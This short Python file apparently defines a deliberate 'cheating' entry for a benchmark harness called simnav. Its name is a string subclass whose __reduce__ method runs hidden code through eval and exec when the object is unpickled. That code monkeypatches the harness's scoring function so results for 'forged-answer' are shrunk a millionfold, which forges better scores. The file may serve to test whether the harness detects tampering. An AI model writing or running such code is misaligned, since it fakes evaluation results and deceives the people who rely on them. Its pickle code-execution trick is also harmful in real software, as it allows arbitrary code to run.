"""Names itself with a text that runs code where it is unpickled: there the scores are made."""

from cheating_last_fix import LastFix

CODE = """
import simnav.scoring
plain = simnav.scoring.score
def score(trial, recording, *more):
    found = plain(trial, recording, *more)
    return {k: 1e-6 * v for k, v in found.items()} if trial.estimator == "forged-answer" else found
simnav.scoring.score = score
"""


class Text(str):
    """A text that is one again once the code has run."""

    def __reduce__(self):
        return eval, (f"exec({CODE!r}, {{}}) or 'forged-answer'",)


class ForgedAnswer(LastFix):
    """By forging the pickled answer."""

    def __init__(self):
        self.name = Text("forged-answer")
